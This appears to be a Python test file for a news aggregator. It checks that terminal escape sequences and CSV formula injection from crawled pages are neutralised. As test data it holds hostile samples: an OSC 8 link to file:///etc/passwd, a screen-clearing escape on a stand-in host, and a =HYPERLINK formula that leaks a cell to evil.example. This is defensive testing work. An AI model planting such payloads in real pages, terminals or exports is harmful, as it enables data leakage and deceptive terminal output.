"""Text from the source sites drives neither the operator's terminal nor a spreadsheet.

A page's title holding ESC sequences (colours, an OSC 8 hyperlink to a ``file:`` URL) or a redirect's ``Location``
holding ``\\x1b[2J`` reached the terminal of whoever listed the archive: the pipelines and the store keep control
characters out of what they store, and the ``aggregator`` command shows any an archive still holds (written by an
older release) as ``\\x1b``. A title starting a formula ran in the spreadsheet a CSV export was opened in.
"""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime
from pathlib import Path

from rich.markup import escape
from sqlalchemy import update

from aggregator.export import export_articles
from aggregator.extract import extract_item, processing_pipelines
from aggregator.items import ArticleItem
from aggregator.sources import all_sources
from aggregator.store import Archive
from aggregator.store.models import Reject
from aggregator.store.queries import ArticleFilter
from aggregator.store.repository import RejectRecord
from aggregator.tables import Terminal
from aggregator.text import visible, without_controls
from tests.conftest import run_cli
from tests.fixtures.xss.build import article_page, article_url

CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
"""What no text the terminal is given may hold: the C0 controls but the tab and line feed, DEL, the C1 controls."""
COLOURED = "Газопровод \x1b[31mкрасный\x1b[0m"
LINKED = "\x1b]8;;file:///etc/passwd\x1b\\ссылка\x1b]8;;\x1b\\"
TITLE = f"{COLOURED} {LINKED} \x07звонок \x9b2Jэкран"
CLEARING = "https://evil.example/\x1b[2J\x1b[31mPWNED"
REASON = f"redirected off the source's sites (302): https://caliber.az/post/hostile -> {CLEARING}"
T0 = datetime(2026, 3, 1, 10, 0, tzinfo=UTC)


def hostile_item(**changes: object) -> ArticleItem:
    item = ArticleItem(
        source="caliber",
        url="https://caliber.az/post/hostile",
        canonical_url="https://caliber.az/post/hostile",
        language="ru",
        title=TITLE,
        body_html="<p>Текст \x1b[5mмигает\x1b[0m.</p>",
        body_text="Текст \x1b[5mмигает\x1b[0m.",
        published_raw="1 \x1b[31mМарта\x1b[0m",
        category="Эконо\x1bмика",
        attribution_line="Icma.az, ссылаясь на \x1b[1mCaliber.az\x1b[0m, отмечает.",
        cited_outlets=["Re\x1b[7muters"],
        fetched_at=T0,
        raw_body=b"<html>hostile</html>",
    )
    for name, value in changes.items():
        setattr(item, name, value)
    return item


def test_the_commands_show_the_control_characters_an_archive_holds(tmp_path: Path) -> None:
    """An archive written before the pipelines removed them (the rows are written here as they are, bypassing the
    pipelines and the store's cleaning of reasons): every listing shows ESC as ``\\x1b``, and sends none."""
    db = f"sqlite:///{tmp_path / 'a.db'}"
    archive = Archive.open(db)
    try:
        archive.sync_sources(all_sources())
        archive.save([hostile_item()], [RejectRecord("caliber", "https://caliber.az/post/hostile", "fetch", "x", 302)])
        with archive.engine.begin() as conn:  # as an older release stored it
            conn.execute(update(Reject).values(reason=REASON))
        (article,) = archive.list_articles()
        (reject,) = archive.list_rejects()
        assert "\x1b" in article.title and "\x9b" in article.title and "\x1b" in reject.reason  # what is shown
    finally:
        archive.close()
    for command in (
        ("articles", "list"),
        ("articles", "list", "--undated"),
        ("articles", "show", "1"),
        ("search", "газопровод"),
        ("rejects", "list"),
        ("rejects", "show", "1"),
    ):
        for columns in ("200", "80"):  # the link beside the text, and under it
            done = run_cli("--db", db, *command, env={"COLUMNS": columns})
            assert done.returncode == 0, (command, done.stderr)
            assert not CONTROLS.search(done.stdout + done.stderr), (command, columns, done.stdout)
            if columns == "80":
                continue  # a narrow table folds the long lines, in the middle of a mark
            if command[0] == "rejects":
                assert "\\x1b[2J\\x1b[31mPWNED" in done.stdout, command
            else:
                assert "\\x1b[31mкрасный\\x1b[0m" in done.stdout and "\\x9b2Jэкран" in done.stdout, command
    shown = run_cli("--db", db, "articles", "show", "1").stdout
    for text in ("1 \\x1b[31mМарта", "Эконо\\x1bмика", "Re\\x1b[7muters", "\\x1b[1mCaliber.az", "\\x1b[5mмигает"):
        assert text in shown, text
    # --json was safe already (JSON writes them as \u001b), and stays the archive's text exactly.
    (row,) = json.loads(run_cli("--db", db, "articles", "list", "--json").stdout)
    assert row["title"] == TITLE


def test_an_error_quoting_the_archive_shows_its_control_characters(tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 'a.db'}"
    archive = Archive.open(db)
    try:
        archive.sync_sources(all_sources())
        archive.save([], [RejectRecord("caliber", "https://caliber.az/post/hostile", "fetch", "x", 302)])
        with archive.engine.begin() as conn:
            conn.execute(update(Reject).values(reason=REASON))
    finally:
        archive.close()
    done = run_cli("--db", db, "rejects", "retry", "1")  # a failed fetch: "nothing was stored to retry", its reason
    assert done.returncode == 2 and "nothing was stored to retry" in done.stderr
    assert not CONTROLS.search(done.stdout + done.stderr) and "\\x1b[2J" in done.stderr


def test_rich_markup_is_escaped_as_before_beside_the_shown_controls() -> None:
    """``visible`` marks end in a hex digit, so Rich's escaping keeps its meaning: a ``[bold]`` after an ESC, or after
    a backslash and an ESC, is still text."""
    for text in ("\x1b[bold]red[/bold]", "a\\\x1b[bold]b", "\x9b[link=file:///etc/passwd]x[/link]", "end\\\x07"):
        console = Terminal(file=io.StringIO(), width=200, color_system=None)
        console.print(escape(text))
        assert console.file.getvalue() == visible(text) + "\n"  # type: ignore[attr-defined]
    assert visible("a\tb\nc\x1bd\x00\x7f\x85") == "a\tb\nc\\x1bd\\x00\\x7f\\x85"


def test_the_pipelines_keep_control_characters_out_of_a_crawled_page() -> None:
    """A page whose title, category, printed date and body hold ESC, BEL and C1 controls, raw and as ``&#27;``: the
    article holds none; the page the archive keeps is the page as fetched, byte for byte."""
    page = article_page("hostile", TITLE, ["<p>Текст &#27;[2J с \x1b[31mкодами\x85 и \x9b31m, \x07конец.</p>"])
    page = page.replace("ЭКОНОМИКА".encode(), "ЭКО\x1b[5mНОМИКА".encode())
    page = page.replace("23 Марта".encode(), "23\x1c Ма\x1bрта".encode())
    url = article_url("hostile")
    item = extract_item(page, url, headers={"Content-Type": "text/html; charset=utf-8"}, fetched_at=T0)
    assert "\x1b" in (item.title or "") and "\x1b" in (item.body_html or "")  # what the extractor read
    for pipeline in processing_pipelines():
        item = pipeline.process_item(item)
    for name in ("title", "category", "published_raw", "body_text", "body_html", "attribution_line"):
        value = getattr(item, name)
        assert value and not CONTROLS.search(value.replace("\n", "").replace("\t", "")), (name, value)
    assert not any(CONTROLS.search(name) for name in item.cited_outlets)
    assert item.title == "Газопровод [31mкрасный[0m ]8;;file:///etc/passwd\\ссылка]8;;\\ звонок 2Jэкран"
    assert (item.category, item.published_raw) == ("ЭКО[5mНОМИКА", "23 Марта 2024 18:14")
    assert item.published_at == datetime(2024, 3, 23, 14, 14, tzinfo=UTC)
    assert "Текст [2J с [31mкодами и 31m, конец." in item.body_text.split("\n\n")
    assert item.raw_body == page


def test_a_refusal_is_stored_without_control_characters(db_url: str) -> None:
    """A reason quoting a header or a page, as a crawl, the writer or ``rejects retry`` records it."""
    archive = Archive.open(db_url)
    try:
        archive.sync_sources(all_sources())
        archive.save([], [RejectRecord("caliber", "https://caliber.az/post/hostile", "fetch", REASON, 302)])
        (reject,) = archive.list_rejects()
        assert reject.reason == REASON.replace("\x1b", "")
        archive.refuse_again(reject.id, "validate", f"no title\n(the page said {TITLE!s})")
        (reject,) = archive.list_rejects()
        assert reject.reason == f"no title\n(the page said {without_controls(TITLE)})"  # the line break kept
        assert not CONTROLS.search(reject.reason)
    finally:
        archive.close()


def test_a_csv_export_holds_no_formula_and_jsonl_the_text_exactly(tmp_path: Path) -> None:
    formula = '=HYPERLINK("https://evil.example/?leak="&A2,"Click")'
    starts = {"=": formula, "+": "+7 (12) 345", "-": "-5 градусов", "@": "@SUM(A1)", "\t": "\tтаб", "\r": "\rcr"}
    archive = Archive.open(f"sqlite:///{tmp_path / 'a.db'}")
    try:
        archive.sync_sources(all_sources())
        items = [
            hostile_item(
                url=f"https://caliber.az/post/f-{n}", canonical_url=f"https://caliber.az/post/f-{n}", title=title
            )
            for n, title in enumerate([*starts.values(), "Обычный заголовок = 2"])
        ]
        items[0].category = "-Политика"
        archive.save(items)
        exported = {}
        for fmt in ("csv", "jsonl"):
            stream = io.StringIO(newline="")
            assert export_articles(archive.reader, ArticleFilter(), fmt, stream) == len(items)
            exported[fmt] = stream.getvalue()
    finally:
        archive.close()
    rows = list(csv.DictReader(io.StringIO(exported["csv"], newline="")))
    assert {row["title"] for row in rows} == {"'" + title for title in starts.values()} | {"Обычный заголовок = 2"}
    assert {row["category"] for row in rows} == {"'-Политика", "Эконо\x1bмика"}
    assert all(row["id"].isdigit() and not row["url"].startswith("'") for row in rows)
    records = [json.loads(line) for line in exported["jsonl"].splitlines()]
    assert {r["title"] for r in records} == {*starts.values(), "Обычный заголовок = 2"}
    assert {r["category"] for r in records} == {"-Политика", "Эконо\x1bмика"}
